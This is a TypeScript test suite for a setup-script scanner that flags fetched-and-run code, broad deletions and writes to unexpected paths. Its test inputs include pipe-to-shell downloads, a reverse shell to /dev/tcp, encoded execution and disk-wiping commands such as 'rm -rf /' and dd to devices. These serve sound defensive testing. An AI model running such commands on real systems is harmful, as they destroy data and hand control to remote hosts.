import { assert, describe, it } from "@effect/vitest"
import { type VerificationPolicy, VerifySetupScript } from "@privx-kit/ueba"
import * as Effect from "effect/Effect"
import { sampleScript } from "./SampleScript.ts"

const places = (text: string, name: VerificationPolicy.CheckName, policy: VerificationPolicy.VerificationPolicy = {}) =>
  Effect.map(
    VerifySetupScript.inspectSetupScript(new TextEncoder().encode(`#!/bin/bash\n${text}\n`), { policy }),
    ({ checks }) => {
      const { outcome, places = [] } = checks.find((check) => check.name === name)!
      assert.strictEqual(outcome, places.length === 0 ? "passed" : "warned")
      return places.map(({ message, position }) => `${position.line}: ${message}`)
    }
  )

describe("noFetchedCode", () => {
  it.effect.each([
    "curl -fsSL https://x | sh",
    "wget -qO- https://x | sudo -E bash -s -- --yes",
    "curl https://x | tee log | /bin/bash -",
    "if curl https://x | env A=1 bash; then :; fi",
    'eval "$(curl -s https://x)"',
    "eval `wget -qO- https://x`",
    'bash -c "$(curl -fsSL https://x)"',
    "bash <(curl -s https://x)",
    "source <(curl -s https://x)",
    ". <(wget -qO- https://x)",
    'sh <<< "$(curl https://x)"',
    "sh <<E\n$(curl https://x)\nE",
    "echo aGk= | base64 -d | sh",
    'eval "$(echo aGk= | openssl base64 -d)"',
    "xxd -r -p <<< 6869 | bash",
    "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://x\").read())'",
    "python3 - <<'E'\nimport urllib.request\nE",
    "curl https://x | python3",
    "sh -c 'curl https://x | sh'",
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
    "f() {\n  curl https://x | sh\n}",
    'coproc GET { curl -s https://x; }\ncat <&"${GET[0]}" | bash',
    'coproc curl -s https://x\nbash <&"${COPROC[0]}"',
    "ftp -n ftp.example.net <<E\nuser a b\nget run.sh\nquit\nE\n. ./run.sh",
    "lftp -e 'get a/run.sh -o /tmp/r.sh; quit' ftp.example.net\nsh /tmp/r.sh",
    "tftp -g -r run.sh 192.0.2.1\nsh run.sh",
    "awk 'BEGIN { c = sprintf(\"%c%c\", 105, 100); system(c) }'"
  ])("finds %j", (text) =>
    Effect.gen(function* () {
      assert.isNotEmpty(yield* places(text, "noFetchedCode"))
    })
  )

  it.effect("follows what is fetched into a variable or a file", () =>
    Effect.gen(function* () {
      const text =
        'code=$(curl -s https://x)\necho fetched\neval "$code"\n' +
        'curl -fsSLo "$T/a.sh" https://x\nsh "${T}/a.sh"\n' +
        "wget https://x/b.sh\nchmod +x b.sh\n./b.sh"
      assert.deepStrictEqual(yield* places(text, "noFetchedCode"), [
        '4: eval "$code" (code is fetched and run)',
        '6: sh "${T}/a.sh" (a file is fetched and run)',
        "9: ./b.sh (a file is fetched and run)"
      ])
    })
  )

  it.effect.each([
    sampleScript,
    "# curl https://x | sh",
    "echo 'curl https://x | sh'",
    "cat <<'E'\ncurl https://x | sh\nE",
    "curl -s https://x | grep -c sh",
    "curl -s https://x | python3 -m json.tool",
    "curl -o data.tar https://x && tar -xf data.tar",
    'version=$(curl -s https://x)\necho "$version"',
    "base64 -d < a > b",
    "zcat a.gz | sort",
    "date | sh -c 'cat'"
  ])("lets be %j", (text) =>
    Effect.gen(function* () {
      assert.deepStrictEqual(yield* places(text, "noFetchedCode"), [])
    })
  )
})

describe("noBroadRemoval", () => {
  it.effect.each([
    "rm -rf /",
    "sudo rm -fr --no-preserve-root /",
    "rm -r -f /*",
    "rm --recursive //usr/./lib/",
    "rm -rf ~",
    'rm -rf "$PREFIX"/',
    "rm -rf $PREFIX/*",
    'rm -rf "${PREFIX}/usr"',
    'A=""\nrm -rf "$A"/lib',
    "find / -name '*.log' -delete",
    "find /etc -type f -exec rm {} +",
    "mkfs.ext4 -q /dev/sdb1",
    "dd if=/dev/zero of=/dev/nvme0n1",
    "cat image > /dev/sda",
    "chmod -R 777 /",
    "chown --recursive user:user /usr"
  ])("finds %j", (text) =>
    Effect.gen(function* () {
      assert.strictEqual((yield* places(text, "noBroadRemoval")).length, 1)
    })
  )

  it.effect.each([
    sampleScript,
    "rm -rf /opt/privx-ueba",
    "rm -f /etc/privx-ueba.conf",
    'rm -rf "$HOME_OF_IT"',
    'A=/opt/a\nrm -rf "$A"/* "${A}/lib"',
    'rm -rf "${A:?}"/*',
    'rm -rf "$A/cache-of-it"',
    "find /var/cache/a -delete",
    "find / -name core -print",
    "dd if=a of=/dev/null",
    "echo a > /dev/stderr",
    "echo rm -rf /",
    "chmod -R go-w /opt/a"
  ])("lets be %j", (text) =>
    Effect.gen(function* () {
      assert.deepStrictEqual(yield* places(text, "noBroadRemoval"), [])
    })
  )
})

describe("expectedWrites", () => {
  it.effect.each<[string, ReadonlyArray<string>]>([
    ["echo a > /root/x\necho b >> /etc/x", ["2: > /root/x"]],
    ['D=/usr/share\ncp a "$D/b"', ["3: cp /usr/share/b"]],
    ["install -m 755 a /usr/bin/a", ["2: install /usr/bin/a"]],
    ["mkdir -p /opt/a /srv/b", ["2: mkdir /srv/b"]],
    ["a | tee -a /home/x/log", ["2: tee /home/x/log"]],
    ["sed -i s/a/b/ /boot/grub.cfg", ["2: sed /boot/grub.cfg"]],
    ["tar -xzf a -C /", ["2: tar /"]],
    ["curl -fsSLo /usr/bin/x https://x", ["2: curl /usr/bin/x"]],
    ["echo > /etc/../boot/x", ["2: > /etc/../boot/x"]],
    ["echo > ~/.bashrc", ["2: > ~/.bashrc"]],
    ["split -b 1M big /usr/lib/part.", ["2: split /usr/lib/part."]],
    ["find . -depth | cpio -pdm /usr/libexec/agent", ["2: cpio /usr/libexec/agent"]],
    ["ssh-keygen -q -N '' -f /root/.ssh/id\nssh-keygen -lf /root/.ssh/id", ["2: ssh-keygen /root/.ssh/id"]],
    [
      "crudini --set /usr/lib/a.conf main dns none\ncrudini --get /usr/lib/a.conf main dns",
      ["2: crudini /usr/lib/a.conf"]
    ],
    ["echo > /optional", ["2: > /optional"]],
    ['echo > /dev/null 2> /dev/stderr\ncat < /root/x\necho > "$1"\necho > a\necho > /usr/$X', []]
  ])("finds in %j what is outside", ([text, expected]) =>
    Effect.gen(function* () {
      assert.deepStrictEqual(yield* places(text, "expectedWrites"), [...expected])
    })
  )

  it.effect("takes the places from the policy", () =>
    Effect.gen(function* () {
      const text = "echo > /srv/a\necho > /etc/b"
      assert.deepStrictEqual(yield* places(text, "expectedWrites", { writePlaces: ["/srv/"] }), ["3: > /etc/b"])
      assert.deepStrictEqual(yield* places(text, "expectedWrites", { writePlaces: ["/"] }), [])
    })
  )
})
